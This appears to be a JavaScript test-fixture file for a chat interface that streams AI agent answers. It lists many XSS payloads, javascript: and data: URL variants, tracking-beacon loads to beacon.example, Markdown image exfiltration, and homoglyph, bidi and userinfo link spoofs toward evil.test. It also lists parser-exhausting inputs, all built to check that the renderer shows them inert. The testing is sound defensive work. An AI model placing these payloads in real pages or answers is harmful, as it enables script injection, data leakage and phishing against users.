// Texts that try to run something, to load something, to mislead or to wear out: as answers, and as every other text of a stream.

const RAN = "__ran.push(1)";
const BEACON = "https://beacon.example/";

/** A trap in an answer. `reads` is what must stay readable, the whole text by default; `leadsTo` the host that must be named beside a link. */
const trap = (name, text, { reads = [text], ...more } = {}) => ({ name, text, reads, ...more });

/** Markup that would run a script. All of it must be shown as it was written. */
const SCRIPTS = Object.entries({
  "a script": `<script>${RAN}</script>`,
  "a script in capitals": `<SCRIPT>${RAN}</SCRIPT>`,
  "a script with a broken name": `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  "a script from elsewhere": `<script src="${BEACON}a.js"></script>`,
  "a module script": `<script type="module">import "${BEACON}b.mjs"</script>`,
  "a script without its end": `<script>${RAN}`,
  "an image with a handler": `<img src=x onerror="${RAN}">`,
  "an image with a handler and slashes": `<img/src="x"/onerror=${RAN}>`,
  "an image without its end": `<img src=x onerror=${RAN} x=`,
  "a drawing with a handler": `<svg onload="${RAN}"></svg>`,
  "a drawing with a script": `<svg><script>${RAN}</script></svg>`,
  "a drawing with an animation": `<svg><animate onbegin=${RAN} attributeName=x dur=1s></svg>`,
  "a drawing that holds markup": `<svg><foreignObject><iframe onload="${RAN}"></iframe></foreignObject></svg>`,
  "a drawing with a link": `<svg><a xlink:href="javascript:${RAN}"><text>press</text></a></svg>`,
  "a body with a handler": `<body onload=${RAN}>`,
  "a field that takes the focus": `<input autofocus onfocus="${RAN}">`,
  "a list that opens": `<details open ontoggle="${RAN}">d</details>`,
  "a video with a handler": `<video><source onerror="${RAN}"></video>`,
  "a sound with a handler": `<audio src=x onerror="${RAN}"></audio>`,
  "a line that scrolls": `<marquee onstart="${RAN}">m</marquee>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`,
  "a frame with a script": `<iframe src="javascript:parent.${RAN}"></iframe>`,
  "an object with a document": `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  "an embedded document": `<embed src="javascript:${RAN}">`,
  "a form that sends a script": `<form action="javascript:${RAN}"><button>send</button></form>`,
  "a button that sends elsewhere": `<button formaction="javascript:${RAN}">send</button>`,
  "a math link": `<math><mtext><a href="javascript:${RAN}">m</a></mtext></math>`,
  "a style with a script": `<style>*{background:url("javascript:${RAN}")}</style>`,
  "a template with a script": `<template><script>${RAN}</script></template>`,
  "a text area that ends early": `<textarea></textarea><img src=x onerror="${RAN}">`,
  "a title that ends early": `</title><script>${RAN}</script>`,
  "a noscript that ends early": `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  "a comment that ends early": `<!--><img src=x onerror="${RAN}">-->`,
  "a processing instruction": `<?xml version="1.0"?><script>${RAN}</script>`,
  "a character data section": `<![CDATA[<script>${RAN}</script>]]>`,
  "a handler in any element": `<p onmouseover="${RAN}" style="position:fixed;inset:0">p</p>`,
  "an element of our own": `<credence-pill onclick="${RAN}"></credence-pill>`,
}).map(([name, text]) => trap(name, text));

/** In Markdown the line of the sign underlines a heading. */
const BROKEN_SCRIPT = trap("a handler with line breaks", `<img src=x onerror\n=\n"${RAN}">`, { reads: ["<img src=x onerror", `"${RAN}">`] });

/** Markup that would load something, or change where the page's addresses lead. */
const LOADS = Object.entries({
  "an image": `<img src="${BEACON}1.png">`,
  "an image of many sizes": `<img srcset="${BEACON}2.png 2x">`,
  "a picture": `<picture><source srcset="${BEACON}3.png"><img alt="p"></picture>`,
  "a style sheet": `<link rel="stylesheet" href="${BEACON}4.css">`,
  "a page to fetch early": `<link rel="prefetch" href="${BEACON}5"><link rel="preconnect" href="${BEACON}">`,
  "an imported style": `<style>@import "${BEACON}6.css";</style>`,
  "a background": `<div style="background:url(${BEACON}7.png)">d</div>`,
  "a frame": `<iframe src="${BEACON}8"></iframe>`,
  "a video with a poster": `<video poster="${BEACON}9.png" src="${BEACON}9.mp4" autoplay></video>`,
  "another base": `<base href="${BEACON}">`,
  "another page": `<meta http-equiv="refresh" content="0;url=${BEACON}10">`,
  "a drawing's image": `<svg><image href="${BEACON}11.png"/><use href="${BEACON}11.svg#a"/></svg>`,
  "an old background": `<table background="${BEACON}12.png"><tr><td>t</td></tr></table>`,
  "a link that reports": `<a href="${BEACON}13" ping="${BEACON}13p">a</a>`,
}).map(([name, text]) => trap(`loading ${name}`, text));

/** Images as Markdown writes them: their description is shown, and nothing is loaded. */
const IMAGES = Object.entries({
  "an image": `![a chart](${BEACON}20.png)`,
  "an image in a link": `[![a chart](${BEACON}21.png)](https://plain.example/)`,
  "an image by reference": `![a chart][c]\n\n[c]: ${BEACON}22.png`,
  "an image with a title": `![a chart](${BEACON}23.png "a 'title'")`,
  "an image of this site": "![a chart](icon.svg)",
  "an image as data": "![a chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "an image with the answer in its address": `![a chart](${BEACON}24.png?q=what+was+asked)`,
  "an image without a scheme": "![a chart](//beacon.example/25.png)",
  "an image in a table": `| a |\n|---|\n| ![a chart](${BEACON}26.png) |`,
  "an image in a heading": `# ![a chart](${BEACON}27.png)`,
}).map(([name, text]) => trap(`Markdown: ${name}`, text, { reads: ["a chart"] }));

/** Addresses that must not become links, in every spelling that a browser would follow. */
const ADDRESSES = Object.entries({
  "javascript:": `javascript:${RAN}`,
  capitals: `JaVaScRiPt:${RAN}`,
  "a tab inside": `java\tscript:${RAN}`,
  "a tab as an entity": `java&Tab;script:${RAN}`,
  "a line break as an entity": `java&NewLine;script:${RAN}`,
  "a colon as an entity": `javascript&colon;${RAN}`,
  "letters as entities": `&#106;&#97;vascript:${RAN}`,
  "letters as long entities": `&#x0000006A;avascript:${RAN}`,
  "a control character before": `\u0001javascript:${RAN}`,
  "a comment and a line break": `javascript://plain.example/%0A${RAN}`,
  "a percent sign": `javascript:%5F%5Fran.push(1)`,
  "a backslash": `java\\script:${RAN}`,
  "data with markup": `data:text/html,<script>${RAN}</script>`,
  "data as base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data with a drawing": "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:": `vbscript:${RAN}`,
  "a file": "file:///etc/passwd",
  "a blob": "blob:https://plain.example/1",
  "a feed of a script": `feed:javascript:${RAN}`,
  "a view of a source": `view-source:javascript:${RAN}`,
  "no scheme": "//beacon.example/30",
  backslashes: "\\\\beacon.example\\31",
  "a page of this site": "index.html",
  "a part of this page": "#composer",
}).flatMap(([name, address]) => [
  trap(`a link to ${name}`, `[press here](${address})`, { reads: ["press here"], noLink: true }),
  trap(`a link in brackets to ${name}`, `[press here](<${address}>)`, { reads: ["press here"], noLink: true }),
]);

const FORMS = Object.entries({
  "an automatic link": `<javascript:${RAN}>`,
  "a link by reference": `[press here][r]\n\n[r]: javascript:${RAN}`,
  "a reference that is defined twice": `[press here][r]\n\n[r]: javascript:${RAN}\n[r]: https://plain.example/`,
  "a link in a heading": `# [press here](javascript:${RAN})`,
  "a link in a table": `| a |\n|---|\n| [press here](javascript:${RAN}) |`,
  "a title that ends the attribute": `[press here](data:,x "\\" onmouseover=\\"${RAN}")`,
}).map(([name, text]) => trap(`javascript: as ${name}`, text, { reads: [text.includes("press") ? "press here" : "javascript:"], noLink: true }));

/** Links whose text claims another host than they lead to. */
const SPOOFS = [
  "bank.example",
  "https://bank.example/login",
  "www.bank.example",
  "BANK.example",
  "see bank.example now",
  "(bank.example)",
  "**bank.example**",
  "**bank**.example",
  "`bank`.example",
  "`bank.example`",
  "“bank.example”",
  "bank.example:443",
  "user@bank.example",
  "https://bank.example@evil.test",
  "bank.example|login",
  "bank.example—secure",
  "bank.example(secure)",
  "login@bank.example,",
  "bank.example;",
  "bank.example→",
  "bank\u200b.example",
  "bank.exam\u00adple",
  "bank\u2060.example",
  "ｂａｎｋ．ｅｘａｍｐｌｅ",
  "bank。example",
  "bank․example",
  "bank&#46;example",
  "b&#97;nk.example",
  "\u202eelpmaxe.knab",
  "bank.example\u202e",
  "bаnk.example",
  "http://127.0.0.1/",
  "1. bank.example",
].map((text) => trap(`a link to evil.test that reads ${JSON.stringify(text)}`, `Read [${text}](https://evil.test/bank.example) first.`, { reads: ["Read", "first."], leadsTo: "evil.test" }));

const SPOOFED_ADDRESSES = [
  ["https://bank.example@evil.test/", "evil.test"],
  ["https://bank.example:443@evil.test/", "evil.test"],
  ["https://evil.test\\\\@bank.example/", "evil.test"],
  ["https:\\\\evil.test/bank.example", "evil.test"],
  ["HTTPS://EVIL.TEST/", "evil.test"],
  ["https://bank.example.evil.test/", "bank.example.evil.test"],
  ["https://evil.test?bank.example", "evil.test"],
  ["https://evil.test#bank.example", "evil.test"],
  ["https://evil.test:8443/", "evil.test"],
  ["https://evil&#46;test/", "evil.test"],
].map(([address, leadsTo]) => trap(`a link that reads bank.example and leads to ${address}`, `Read [bank.example](<${address}>) first.`, { reads: ["Read", "first."], leadsTo }));

/** Texts that are shown in another order than they are written, or that hide a part. */
const BIDI = Object.entries({
  "an override": "\u202egnp.exe\u202c readable",
  "an override without its end": "\u202eevil readable",
  "an isolate without its end": "\u2067evil readable",
  "an embedding without its end": "\u202bevil readable",
  "right-to-left text": "שלום עולם readable",
  marks: "\u200f\u200e\u061creadable",
  "invisible letters": "read\u200bable \u{e0041}\u{e0042} readable",
  "many combining marks": `readable${"\u0336\u0488".repeat(500)}`,
  "an override before a link": "\u202e [bank.example](https://evil.test/) readable",
}).map(([name, text]) => trap(`bidi: ${name}`, text, { reads: ["readable"], ...(text.includes("](") && { leadsTo: "evil.test", inOrder: true }) }));

/** Structures that are deep, broken or long. */
const SHAPES = Object.entries({
  "quotes in quotes": `${">".repeat(5_000)} readable`,
  "lists in lists": `${"- ".repeat(2_000)}readable`,
  "brackets in brackets": `${"[".repeat(20_000)}readable${"]".repeat(20_000)}`,
  "links in links": `${"[a](".repeat(3_000)}readable`,
  "images in images": `${"![".repeat(5_000)}readable`,
  stars: `${"*".repeat(30_000)}readable${"*".repeat(30_000)}`,
  "stars and underscores": `${"*_".repeat(10_000)} readable`,
  backticks: `${Array.from({ length: 300 }, (_, n) => "`".repeat(n)).join(" ")} readable`,
  "elements in elements": `${"<div>".repeat(2_000)}readable`,
  "comments without an end": `${"<!--".repeat(5_000)} readable`,
  entities: `${"&amp".repeat(10_000)} readable`,
  "a fence without an end": `\`\`\`js\n${RAN}\nreadable`,
  "a fence with a language that is markup": `\`\`\`"><img src=x onerror=${RAN}>\nreadable\n\`\`\``,
  "a table without rows": "| readable |\n|---|",
  "a table with more cells than columns": "| readable |\n|---|\n| a | b | c | d |",
  "a table with fewer cells than columns": "| readable | b | c |\n|---|---|---|\n| a |",
  "a table with a broken line": "| readable | b |\n|--|x|\n| c | d |",
  "a table of 2,000 columns": `|${" readable |".repeat(2_000)}\n|${"-|".repeat(2_000)}`,
  "a table with markup": `| <script>${RAN}</script> readable |\n|---|\n| <img src=x onerror=${RAN}> |`,
  "a table with escaped bars": "| readable \\| b |\n|---|\n| `a \\| b` |",
  "references without an end": `${"[a]: ".repeat(3_000)}readable`,
  "one word of 100,000 letters": `readable ${"x".repeat(100_000)}`,
  "a null character": "read\u0000able readable",
  "a lone half of a pair": "readable \ud800",
  "10,000 line breaks": `readable${"\n".repeat(10_000)}readable`,
  "10,000 markers": `readable ${"[1]".repeat(10_000)}`,
  "a marker that is markup": `readable [1"onmouseover="${RAN}]`,
  "a template": "readable ${__ran.push(1)} {{__ran.push(1)}} #{__ran.push(1)}",
}).map(([name, text]) => trap(`shape: ${name}`, text, { reads: ["readable"] }));

/** The traps of all kinds in one list, each with its kind. */
const ofKinds = (kinds) => Object.entries(kinds).flatMap(([kind, traps]) => traps.map((each) => ({ ...each, kind })));

/** Traps in the text of an answer. */
export const TRAPS = ofKinds({ SCRIPTS: [...SCRIPTS, BROKEN_SCRIPT], LOADS, IMAGES, ADDRESSES, FORMS, SPOOFS, SPOOFED_ADDRESSES, BIDI, SHAPES });

/** Texts that stand in every other place of a turn at once. */
export const FIELD_TRAPS = ofKinds({
  SCRIPTS: SCRIPTS.filter((_, index) => index % 4 === 0),
  LOADS: LOADS.filter((_, index) => index % 5 === 0),
  IMAGES: IMAGES.slice(0, 1),
  ADDRESSES: [trap("a link to a script", `[press here](javascript:${RAN})`)],
  BIDI: BIDI.slice(0, 2),
  SHAPES: [trap("one line of 100,000 letters", `readable ${"x".repeat(100_000)}`, { reads: ["readable"] })],
}).map((each) => ({ ...each, name: `in every place: ${each.name}` }));

const frame = (event, data) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`;

/** An answer in small pieces, as an agent sends it. */
export function answering(text) {
  const whole = `Start.\n\n${text}\n\nEnd.`;
  const size = Math.max(Math.ceil(whole.length / 40), 7);
  const tokens = Array.from({ length: Math.ceil(whole.length / size) }, (_, index) => frame("token", { content: whole.slice(index * size, (index + 1) * size) }));
  return `${tokens.join("")}${frame("done", { thread_id: "t", response: { category: "c", message: whole, citations: [] }, tool_call_history: [] })}`;
}

/** The places of a turn besides its answer; each has its own sign, so that a test can say which is missing. */
export const PLACES = ["title", "snippet", "tool", "arguments", "tool-error", "tool-name", "field", "value", "thought"];

/** A turn with the text in every place, and the same text as address, date and category. */
export function everywhere(text) {
  const at = (place) => `${place}-sign ${text}`;
  const citations = [
    { label: "[1]", url: "https://plain.example/1", title: at("title") },
    { label: "[2]", url: text, title: "an address" },
    { label: "[3]", tool_name: "t", display_name: at("tool-name"), field: at("field"), value: at("value") },
  ];
  const found = [{ url: "https://plain.example/2", title: "found", snippet: at("snippet"), published: text }];
  const history = [
    { tool_name: at("tool"), tool_args: { q: at("arguments") }, success: false, data: null, error: at("tool-error") },
    { tool_name: "t", tool_args: {}, success: true, data: { results: found } },
  ];
  const calls = history.map(
    ({ tool_name, tool_args, success, error }) => frame("tool_call", { tool: tool_name, args: tool_args }) + frame("tool_result", { tool: tool_name, success, ...(error && { error }) }),
  );
  const response = { category: text, message: "Start [1][2][3] End.", citations, suggested_followups: [text] };
  return [frame("thinking", { message: at("thought") }), ...calls, frame("token", { content: "Start [1][2][3] End." }), frame("done", { thread_id: text, response, tool_call_history: history })].join(
    "",
  );
}

/** A turn that fails with the text as code and message. */
export const failing = (text) => frame("token", { content: "Start." }) + frame("error", { code: text, message: `message-sign ${text}` });
